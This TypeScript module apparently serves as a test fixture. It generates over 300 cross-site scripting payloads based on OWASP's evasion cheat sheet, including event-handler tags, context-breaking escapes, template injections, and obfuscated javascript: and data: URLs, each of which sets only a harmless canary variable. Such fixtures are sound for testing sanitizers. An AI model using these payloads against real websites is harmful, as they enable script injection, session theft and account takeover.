/** Global variable that every payload tries to set on the page that shows it. */
export const CANARY = '__pwn'

const RUN = `window.${CANARY}=1`

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe></foreignObject></svg>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${CANARY}=1"></iframe>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>x</button>`,
  `<x contenteditable autofocus onfocus=${RUN}>x</x>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<table background="javascript:${RUN}"><td>x</td></table>`,
  `<dialog open onfocus=${RUN}><input autofocus></dialog>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<p title="-->&lt;img src=x onerror=${RUN}&gt;">x</p>`,
] as const

const ESCAPES = [
  ...['"', "'", '`', '">', "'>", '"/>', '-->', ']]>', '*/', '</title>', '</textarea>', '</style>'].map(
    (end) => `${end}<script>${RUN}</script>`,
  ),
  ...['</script>', '</ScRiPt >', '</noscript>', '</template>', '</xmp>', '</select>', '\u2028', '\0'].map(
    (end) => `${end}<img src=x onerror=${RUN}>`,
  ),
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `x onerror=${RUN}`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\';${RUN};//`,
  `'));${RUN};//`,
  `\`;${RUN};//`,
  `'+(${RUN})+'`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
] as const

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd249MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `vbscript:${RUN}`,
  `blob:${RUN}`,
  `https://example.com/"onmouseover="${RUN}`,
  `https://javascript:${RUN}@example.com/`,
] as const

const WAYS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.replace(/<\/?[a-z]+/gi, (tag) => tag.toUpperCase()),
  (payload) => `">${payload}`,
  (payload) => payload.replaceAll(' ', '\n\t'),
  (payload) => payload.replaceAll(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (payload) => `${payload}${'A'.repeat(40)}`,
]

/** More than 300 payloads based on OWASP's evasion cheat sheet. Harmless when rendered as text. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([...WAYS.flatMap((way) => TAGS.map(way)), ...ESCAPES, ...ADDRESSES]),
]
